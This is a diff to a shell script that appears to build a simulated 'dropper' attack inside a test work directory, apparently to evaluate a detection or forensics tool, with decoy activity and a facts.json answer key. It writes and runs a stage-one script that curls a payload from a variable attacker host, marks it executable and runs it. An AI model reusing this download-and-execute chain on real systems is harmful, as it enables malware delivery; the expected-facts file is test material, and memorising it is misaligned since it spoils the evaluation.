@@ -7,11 +7,13 @@
 . "$(dirname "$0")/lib.sh"
 work=$(realpath -m "$1"); nonce=$2
 mkdir -p "$work"/{srv,dl,victim,backup}
-trap 'kill $http_pid 2>/dev/null || true' EXIT
+attacker_host 1
+trap 'cleanup $http_pid' EXIT
+background_noise "$work"
 
 cat > "$work/srv/stage1.sh" <<STAGE
 #!/bin/sh
-curl -s -o $work/dl/payload http://127.0.0.1:PORT/payload
+curl -s -o $work/dl/payload URL/payload
 chmod +x $work/dl/payload
 $work/dl/payload
 STAGE
@@ -22,15 +24,15 @@ STAGE
 echo "readme" > "$work/srv/readme.txt"
 echo "server=ntp.example" > "$work/victim/config"
 start_http "$work/srv"
-sed -i "s/PORT/$http_port/" "$work/srv/stage1.sh"
+sed -i "s#URL#$url#" "$work/srv/stage1.sh"
 
 # Decoys before the attack.
-curl -s -o "$work/dl/readme.txt" "http://127.0.0.1:$http_port/readme.txt"
+curl -s -o "$work/dl/readme.txt" "$url/readme.txt"
 cp "$work/victim/config" "$work/backup/config.bak"
 settle
 
 # The attack.
-curl -s -o "$work/dl/stage1.sh" "http://127.0.0.1:$http_port/stage1.sh"
+curl -s -o "$work/dl/stage1.sh" "$url/stage1.sh"
 sh "$work/dl/stage1.sh"
 settle
 detect_at=$(now)
@@ -46,7 +48,7 @@ cat > "$work/facts.json" <<JSON
   "scenario": "dropper2",
   "damaged": $(json_str "$work/victim/config"),
   "detect_at": $detect_at,
-  "entry": "socket:127.0.0.1:$http_port",
+  "entry": "socket:$atk_ip:$http_port",
   "chain": $(json_list "stage1.sh http" "sh $work/dl/stage1.sh" "payload http" "chmod +x" "/bin/sh $work/dl/payload"),
   "decoys": $(json_list "readme.txt" "config.bak" "sha256sum" "# reviewed"),
   "modified": $(json_list "$work/dl/stage1.sh" "$work/dl/payload" "$work/victim/config")
